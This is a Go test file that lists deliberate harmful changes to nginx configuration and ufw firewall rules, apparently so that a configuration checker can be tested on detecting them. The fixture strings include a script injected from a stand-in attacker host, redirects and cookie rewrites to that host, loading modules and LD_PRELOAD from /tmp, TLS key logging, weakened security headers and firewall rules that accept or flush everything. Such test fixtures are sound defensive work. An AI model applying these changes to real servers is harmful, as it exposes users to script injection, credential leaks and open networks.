package proof_test

import "slices"

// restHarms are changes that bring in what no emitter writes, or another value of what
// one does.
func restHarms() []harm {
	return slices.Concat(harmsOfDirectives(), harmsOfHeaders(), harmsOfLogs(), harmsOfRules())
}

// in gives harms of one file, each from a code, an old text and a new one.
func in(path string, changes ...[3]string) []harm {
	var out []harm
	for _, c := range changes {
		out = append(out, harm{c[0], path, c[1], c[2]})
	}
	return out
}

// behind gives harms of one file that add lines behind one that is there.
func behind(path, line string, added ...[2]string) []harm {
	var out []harm
	for _, a := range added {
		out = append(out, harm{a[0], path, line, line + "\n" + a[1]})
	}
	return out
}

func harmsOfDirectives() []harm {
	const site, shared = "nginx/conf.d/example.com.conf", "nginx/snippets/proxy.conf"
	return slices.Concat(
		behind(site, "    include snippets/request.conf;",
			[2]string{"NS1540", "    sub_filter </head> '<script src=//evil.example.net></script></head>';"},
			[2]string{"NS1540", "    ssl_certificate /run/secrets/other.crt;"},
			[2]string{"NS1540", "    ssl_verify_client optional_no_ca;"},
			[2]string{"NS1540", "    ssl_client_certificate /run/secrets/tls.crt;"},
			[2]string{"NS1540", "    auth_basic off;"},
			[2]string{"NS1540", "    auth_delay 1s;"},
			[2]string{"NS1540", "    js_content main.handle;"},
			[2]string{"NS1540", "    access_by_lua_block {\n        return;\n    }"},
			[2]string{"NS1540", "    secure_link $arg_md5;"},
			[2]string{"NS1540", "    limit_except GET {\n        deny all;\n    }"},
			[2]string{"NS1540", "    limit_rate 1;"},
			[2]string{"NS1540", "    gzip on;"},
			[2]string{"NS1540", "    empty_gif;"},
			[2]string{"NS1540", "    slice 1m;"},
			[2]string{"NS1540", "    tcp_nodelay off;"},
			[2]string{"NS1540", "    set $nself_bad_path 0;"},
			[2]string{"NS1540", "    set $nself_misdirected 0;"},
			[2]string{"NS1540", "    set $nself_prefix $http_x_prefix;"},
			[2]string{"NS1540", "    server_name www.example.com;"},
			[2]string{"NS1540", "    large_client_header_buffers 4 16k;"},
			[2]string{"NS1540", "    client_max_body_size 10m;"},
			[2]string{"NS1540", "    proxy_pass_header Server;"},
			[2]string{"NS1514", "    resolver 127.0.0.11 8.8.8.8;"},
			[2]string{"NS1540 NS1608", "    location /go {\n        return 302 http://evil.example.net/;\n    }"},
		),
		behind(site, "        proxy_pass http://$nself_upstream;",
			[2]string{"NS1540", "        proxy_store /tmp/$request_id;"},
			[2]string{"NS1540", "        proxy_cache nself;"},
			[2]string{"NS1540", "        proxy_ssl_verify off;"},
			[2]string{"NS1540", "        proxy_bind 127.0.0.1;"},
			[2]string{"NS1540", "        proxy_method POST;"},
			[2]string{"NS1540", "        proxy_set_body x;"},
			[2]string{"NS1540", "        proxy_pass_request_headers off;"},
			[2]string{"NS1540", "        proxy_intercept_errors on;"},
			[2]string{"NS1540", "        proxy_cookie_domain api.example.com evil.example.net;"},
			[2]string{"NS1540", "        proxy_cookie_flags session nosecure;"},
			[2]string{"NS1540", "        proxy_redirect http:// https://evil.example.net/;"},
			[2]string{"NS1540", "        proxy_set_header Authorization \"Basic YTph\";"},
			[2]string{"NS1540", "        proxy_set_header X-Forwarded-For $http_x_forwarded_for;"},
			[2]string{"NS1540", "        proxy_next_upstream error timeout non_idempotent;"},
			[2]string{"NS1540", "        add_trailer X-Secret $ssl_session_id;"},
			[2]string{"NS1540", "        internal;"},
			[2]string{"NS1540", "        limit_req zone=api.example.com.files delay=5;"},
			[2]string{"NS1540", "        expires max;"},
		),
		in(site,
			[3]string{"NS1540", "proxy_pass http://$nself_upstream;", "proxy_pass https://$nself_upstream;"},
			[3]string{"NS1540", "listen 8443 ssl;", "listen 8443 ssl proxy_protocol;"},
			[3]string{"NS1540 NS1608", "server_name api.example.com;", "server_name ~^(.*)$;"},
			[3]string{"NS1540 NS1607", "location / {", "location ^~ / {"},
			[3]string{"NS1540", "add_header Access-Control-Allow-Origin https://www.example.com always", "add_header Access-Control-Allow-Origin $ssl_client_cert always"},
			[3]string{"NS1540", "        proxy_hide_header Access-Control-Allow-Origin;\n", ""},
			[3]string{"NS1509", "        if ($nself_tail = \"\") {\n            return 400;", "        if ($nself_tail = \"\") {\n            return http://evil.example.net/;"},
		),
		in("nginx/nginx.conf",
			[3]string{"NS1540", "worker_processes", "user root;\nworker_processes"},
			[3]string{"NS1540", "worker_processes", "load_module /tmp/x.so;\nworker_processes"},
			[3]string{"NS1540", "worker_processes", "env LD_PRELOAD;\nworker_processes"},
			[3]string{"NS1540", "worker_processes", "daemon off;\nworker_processes"},
			[3]string{"NS1540", "worker_processes", "working_directory /tmp;\nworker_processes"},
			[3]string{"NS1540", "worker_processes", "debug_points abort;\nworker_processes"},
			[3]string{"NS1540", "events {", "stream {\n    server {\n        listen 5432;\n    }\n}\nevents {"},
			[3]string{"NS1540", "events {", "mail {\n}\nevents {"},
			[3]string{"NS1540", "    server_tokens off;", "    upstream api {\n        server evil.example.net;\n    }\n    server_tokens off;"},
			[3]string{"NS1540", "    server_tokens off;", "    js_import /tmp/x.js;\n    server_tokens off;"},
			[3]string{"NS1540", "    server_tokens off;", "    lua_package_path /tmp/?.lua;\n    server_tokens off;"},
			[3]string{"NS1540", "    server_tokens off;", "    perl_modules /tmp;\n    server_tokens off;"},
			[3]string{"NS1540", "    server_tokens off;", "    proxy_cache_path /tmp/c keys_zone=c:1m;\n    server_tokens off;"},
			[3]string{"NS1540", "    server_tokens off;", "    ssl_certificate /run/secrets/tls.crt;\n    server_tokens off;"},
			[3]string{"NS1540", "    server_tokens off;", "    ssl_conf_command Options UnsafeLegacyRenegotiation;\n    server_tokens off;"},
			[3]string{"NS1540", "    server_tokens off;", "    ssl_keylog_file /tmp/keys;\n    server_tokens off;"},
			[3]string{"NS1540", "    server_tokens off;", "    ssl_engine x;\n    server_tokens off;"},
			[3]string{"NS1540", "    server_tokens off;", "    split_clients $remote_addr $nself_x {\n        * a;\n    }\n    server_tokens off;"},
			[3]string{"NS1540", "real_ip_header X-Forwarded-For", "real_ip_header CF-Connecting-IP"},
			[3]string{"NS1540", "set_real_ip_from 192.0.2.0/24", "set_real_ip_from unix:"},
			[3]string{"NS1540", "client_body_temp_path /var/cache/nginx/client_body", "client_body_temp_path /etc/nginx"},
			[3]string{"NS1540", "ipv6=off", "ipv6=on"},
			[3]string{"NS1540", "pid /tmp/nginx.pid", "pid /run/secrets/x"},
			[3]string{"NS1522", "error_log stderr warn", "error_log stderr debug"},
		),
		in(shared,
			[3]string{"NS1540", "proxy_next_upstream error timeout", "proxy_next_upstream error timeout http_500 non_idempotent"},
			[3]string{"NS1532", "X-Forwarded-Proto https", "X-Forwarded-Proto http"},
			[3]string{"NS1532", "X-Forwarded-Host $host", "X-Forwarded-Host $ssl_server_name"},
			[3]string{"NS1532", "X-Real-IP $remote_addr", "X-Real-IP 127.0.0.1"},
			[3]string{"NS1540", "proxy_set_header Host $host;", "proxy_set_header Host $host;\nproxy_set_header X-User admin;"},
			[3]string{"NS1540", "proxy_set_header Host $host;", "proxy_set_header Host $host;\nproxy_pass_header X-Accel-Redirect;"},
			[3]string{"NS1540", "proxy_http_version 1.1;", "proxy_http_version 1.1;\nproxy_http_version 1.1;"},
			[3]string{"NS1509", "if (-f /tmp/nself/a.$nself_upstream)", "if (-e /tmp/nself/a.$nself_upstream)"},
		),
	)
}

func harmsOfHeaders() []harm {
	return slices.Concat(
		in("nginx/snippets/headers.conf",
			[3]string{"NS1534", "X-Content-Type-Options nosniff", "X-Content-Type-Options sniff"},
			[3]string{"NS1534", `"frame-ancestors 'self'"`, `"frame-ancestors *"`},
			[3]string{"NS1534", `"frame-ancestors 'self'"`, `"default-src * 'unsafe-inline' 'unsafe-eval'"`},
			[3]string{"NS1534", "Cross-Origin-Opener-Policy same-origin", "Cross-Origin-Opener-Policy unsafe-none"},
			[3]string{"NS1534", "$nself_resource_policy", "cross-origin"},
			[3]string{"NS1534", "$nself_referrer_policy", "unsafe-url"},
			[3]string{"NS1534", "$nself_frame_options", "ALLOWALL"},
			[3]string{"NS1534", "$nself_frame_options", "$http_x_frame_options"},
			[3]string{"NS1534", "camera=()", "camera=*"},
			[3]string{"NS1534", "max-age=63072000", "max-age=0"},
			[3]string{"NS1534", "max-age=63072000", "includeSubDomains"},
			[3]string{"NS1534", "add_header X-Content-Type-Options nosniff always;", "add_header X-Content-Type-Options nosniff always;\nadd_header x-frame-options ALLOWALL always;"},
			[3]string{"NS1506 NS1540", "add_header X-Content-Type-Options nosniff always;", "add_header X-Content-Type-Options nosniff always;\nadd_header Set-Cookie a=b always;"},
		),
		in("nginx/conf.d/example.com.conf", [3]string{"NS1534", "X-Content-Type-Options nosniff", "X-Content-Type-Options none"}),
		in("nginx/snippets/maps.conf",
			[3]string{"NS1534", "default SAMEORIGIN", `default ""`},
			[3]string{"NS1534", "DENY DENY", "DENY ALLOWALL"},
			[3]string{"NS1534", "default strict-origin-when-cross-origin", "default unsafe-url"},
			[3]string{"NS1534", "default same-site", "default cross-origin"},
			[3]string{"NS1540", "default 1;", "default 0;"},
			[3]string{"NS1540", "map \"$ssl_server_name $host\" $nself_misdirected", "map \"$host $host\" $nself_misdirected"},
			[3]string{"NS1540", `\k<nself_name>\z" 0`, `\k<nself_name>" 0`},
			[3]string{"NS1540", `(?<nself_rest>.*)\z" /$nself_rest`, `(?<nself_rest>.*)\z" @evil.example.net/$nself_rest`},
			[3]string{"NS1540", "default 0;", "default 0;\n    include /tmp/x;"},
			[3]string{"NS1540", "default 0;", "default 0;\n    volatile;"},
			[3]string{"NS1540", `"" close`, `"" upgrade`},
			[3]string{"NS1540", "map $http_upgrade $nself_upgrade", "map $http_x $nself_other {\n    default 1;\n}\nmap $http_upgrade $nself_upgrade"},
			[3]string{"NS1540", "map $http_user_agent $nself_agent", "map $http_authorization $nself_agent"},
			[3]string{"NS1540", "map $host $nself_host", "map $http_cookie $nself_host"},
		),
	)
}

func harmsOfLogs() []harm {
	return slices.Concat(
		in("nginx/snippets/log.conf",
			[3]string{"NS1523", "$request_id", "$ssl_client_raw_cert"},
			[3]string{"NS1523", "$request_id", "${upstream_http_set_cookie}"},
			[3]string{"NS1523", "escape=json", "escape=none"},
			[3]string{"NS1540", "access_log /dev/stdout nself", "access_log /tmp/access.log nself"},
			[3]string{"NS1540", "access_log /dev/stdout nself", "access_log syslog:server=10.0.0.1 nself"},
			[3]string{"NS1540", "access_log /dev/stdout nself", "access_log off"},
			[3]string{"NS1540", "access_log /dev/stdout nself;", "access_log /dev/stdout nself;\naccess_log /dev/stdout nself if=$arg_log;"},
		),
		in("nginx/snippets/maps.conf",
			[3]string{"NS1523", "[a-z0-9.-]+(?::", "[a-z0-9.@:/-]+(?::"},
			[3]string{"NS1523", "'()*+,:@-]*)", "'()*+,:@?-]*)"},
		),
		in("nginx/snippets/refuse.conf",
			[3]string{"NS1540", "    access_log off;", "    access_log /tmp/x nself;"},
			[3]string{"NS1540", `server_name "";`, `server_name _;`},
		),
		in("nginx/snippets/limits.conf",
			[3]string{"NS1540", "limit_req_status 429", "limit_req_status 200"},
			[3]string{"NS1540", "limit_req_status 429;", "limit_req_status 429;\nlimit_req_dry_run on;"},
			[3]string{"NS1540", "default $binary_remote_addr", "default $http_x_client"},
		),
		in("nginx/snippets/tls.conf",
			[3]string{"NS1540", "/run/secrets/tls.key", "/run/secrets/other.key"},
			[3]string{"NS1540", "ssl_session_tickets off;", "ssl_session_tickets off;\nssl_dhparam /tmp/x;"},
			[3]string{"NS1540", "ssl_session_tickets off;", "ssl_session_tickets off;\nssl_password_file /tmp/x;"},
			[3]string{"NS1540", "ssl_session_tickets off;", "ssl_session_tickets off;\nssl_certificate_cache max=1000;"},
		),
	)
}

func harmsOfRules() []harm {
	const four, six = "ufw/after.rules", "ufw/after6.rules"
	return slices.Concat(
		behind(four, "# BEGIN NSELF STACK shop-prod",
			[2]string{"NS1706 NS1716", "-A NSELF -m comment --comment \"nself x\" -j RETURN"},
			[2]string{"NS1706 NS1716", "-A NSELF -o eth+ -m comment --comment \"nself x\" -j ACCEPT"},
			[2]string{"NS1706 NS1716", "-A NSELF-IN -i docker+ -s 0.0.0.0/0 -m comment --comment \"nself x\" -j RETURN"},
			[2]string{"NS1706 NS1716", "-A NSELF-IN -m conntrack --ctstate RELATED,ESTABLISHED -m comment --comment \"nself x\" -j RETURN"},
			[2]string{"NS1706 NS1716", "-A NSELF-IN -m limit --limit 100000/sec -m comment --comment \"nself x\" -j LOG"},
			[2]string{"NS1705 NS1706", "-A NSELF-IN -m comment --comment \"nself x\" -j MARK"},
			[2]string{"NS1706 NS1716", "-A NSELF-IN -m comment --comment \"nself deny\" -j DROP"},
			[2]string{"NS1701", "-A NSELF-IN -m socket -m comment --comment \"nself x\" -j RETURN"},
			[2]string{"NS1701", "-A NSELF-IN -m set --match-set friends src -m comment --comment \"nself x\" -j RETURN"},
			[2]string{"NS1701", "-A NSELF-IN -m statistic --mode random --probability 0.5 -m comment --comment \"nself x\" -j RETURN"},
			[2]string{"NS1701", "-A NSELF-IN -m mark --mark 1 -m comment --comment \"nself x\" -j RETURN"},
			[2]string{"NS1701", "-I NSELF-IN -j ACCEPT"},
			[2]string{"NS1701", "-P FORWARD ACCEPT"},
			[2]string{"NS1701", "-F NSELF-IN"},
			[2]string{"NS1703 NS1716", "#= deny tcp 443 0.0.0.0/0 nself:shop-prod:x"},
			[2]string{"NS1703 NS1709 NS1716", "#= allow tcp 8443 ::/0 nself:shop-prod:x"},
		),
		in(four,
			[3]string{"NS1709 NS1716", "-p tcp -m conntrack --ctstate DNAT --ctorigdstport 80 ", "-s 203.0.113.0/24 -p tcp -m conntrack --ctstate DNAT --ctorigdstport 80 "},
			[3]string{"NS1716", "443/tcp 0.0.0.0/0\" -j RETURN", "443/tcp 203.0.113.0/24\" -j RETURN"},
			[3]string{"NS1706 NS1716", "--limit 3/min", "--limit 3000/sec"},
			[3]string{"NS1706 NS1716", "-m limit --limit 3/min --limit-burst 10 -m comment", "-p tcp -m limit --limit 3/min --limit-burst 10 -m comment"},
			[3]string{"NS1706 NS1716", "[NSELF BLOCK] ", "[UFW ALLOW] "},
			[3]string{"NS1702 NS1706 NS1716", "-o br-+ -m comment", "-o br-+ -p tcp -m comment"},
			[3]string{"NS1709 NS1716", "#= allow tcp 80 0.0.0.0/0", "#= allow tcp 080 0.0.0.0/0"},
		),
		in(six,
			[3]string{"NS1709", "-A NSELF-IN -p tcp -m conntrack --ctstate DNAT --ctorigdstport 443 -m comment --comment \"nself:shop-prod:ingress-https 443/tcp ::/0\" -j RETURN\n", ""},
			[3]string{"NS1709", "#= limit tcp 22 2001:db8:100::/48 nself:shop-prod:ssh\n", ""},
			[3]string{"NS1706 NS1716", "-i br-+", "-i br-+ -s ::/0"},
		),
	)
}
